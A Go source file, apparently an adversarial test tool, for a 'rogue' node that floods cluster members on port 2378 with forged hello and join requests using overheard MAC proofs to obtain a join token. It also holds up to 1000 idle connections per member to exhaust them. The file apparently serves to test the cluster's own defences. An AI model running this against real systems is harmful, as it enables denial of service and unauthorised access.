package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"log"
	"math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"time"
)

// ask asks each member in turn for a hello and for the join token, with proofs that may be anything.
func (r *rogue) ask(pause time.Duration) {
	client := &http.Client{
		Timeout: 3 * time.Second,
		Transport: &http.Transport{
			TLSClientConfig:   &tls.Config{InsecureSkipVerify: true, Certificates: []tls.Certificate{r.cert}},
			DisableKeepAlives: true,
			DialContext:       r.dial,
		},
	}
	asking := make(slots, 64)
	var asked tally
	go asked.report("requests")
	for range time.Tick(pause) {
		for at, v := range r.victims() {
			for _, path := range []string{"/v1/hello", "/v1/join"} {
				asking.try(func() {
					r.askOnce(client, at, path, v)
					asked.n.Add(1)
				})
			}
		}
	}
}

// dial connects from one of the rogue's addresses.
func (r *rogue) dial(ctx context.Context, network, addr string) (net.Conn, error) {
	from := net.TCPAddrFromAddrPort(netip.AddrPortFrom(r.all[rand.IntN(len(r.all))], 0))
	return (&net.Dialer{LocalAddr: from, Timeout: 3 * time.Second}).DialContext(ctx, network, addr)
}

// hold opens connections to each member and says nothing on them. At most 1000 are held at a time.
func (r *rogue) hold(pause time.Duration) {
	held := make(slots, heldMax)
	for range time.Tick(pause) {
		for at := range r.victims() {
			held.try(func() {
				conn, err := r.dial(context.Background(), "tcp4", netip.AddrPortFrom(at, 2378).String())
				if err != nil {
					return
				}
				defer conn.Close()
				_ = untilClosed(conn) // until the member has had enough
			})
		}
	}
}

func (r *rogue) askOnce(client *http.Client, at netip.Addr, path string, v overheard) {
	claim := fmt.Sprintf(`{"serial":%q,"cluster":%q,"tag":%q,"state":"blank"}`, serial, v.cluster, v.tag)
	url := fmt.Sprintf("https://%s:2378%s", at, path)
	req, err := http.NewRequestWithContext(context.Background(), http.MethodPost, url, strings.NewReader(claim))
	if err != nil {
		log.Fatal(err)
	}
	req.Header.Set(proofHeader, v.mac)
	res, err := client.Do(req)
	if err != nil {
		return // refused before it was heard
	}
	defer res.Body.Close()
	body, err := io.ReadAll(io.LimitReader(res.Body, 1<<16))
	if res.StatusCode == http.StatusOK || res.Header.Get(proofHeader) != "" {
		log.Printf("got %s from %s: %s %q %s %v", path, at, res.Status, res.Header.Get(proofHeader), body, err)
	} else if _, known := r.refused.LoadOrStore(at.String()+path+res.Status, true); !known {
		log.Printf("refused %s by %s: %s %s", path, at, res.Status, body)
	}
}
